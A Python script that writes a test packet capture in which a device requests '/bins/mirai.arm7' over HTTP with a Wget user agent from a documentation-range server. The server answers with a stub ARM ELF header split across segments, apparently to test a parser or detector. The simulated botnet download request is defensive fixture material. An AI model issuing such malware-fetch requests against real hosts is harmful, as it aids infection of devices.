#!/usr/bin/env python3
"""Writes input.pcap: a device fetches an ARM executable over HTTP and the server sends the
response head in one segment and the body (ELF magic first) in the next, as servers that write
the head before reading the file do. Run once; the output is committed."""
import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', '..'))
from pcaplib import Capture, TcpSession  # noqa: E402

cap = Capture()
cli = (bytes.fromhex('0200000000a1'), '192.168.1.20')
srv = (bytes.fromhex('0200000000fe'), '198.51.100.23')
body = b'\x7fELF\x01\x01\x01\x00' + b'\0' * 8 + b'\x02\x00\x28\x00' + b'\0' * 44
s = TcpSession(cap, cli, srv, 40000, 80)
s.send(True, b'GET /bins/mirai.arm7 HTTP/1.1\r\nHost: 198.51.100.23\r\nUser-Agent: Wget\r\n\r\n')
s.send(False, b'HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n'
       b'Content-Length: %d\r\n\r\n' % len(body))
s.send(False, body)
s.close()
cap.write(os.path.join(os.path.dirname(os.path.abspath(__file__)), 'input.pcap'))
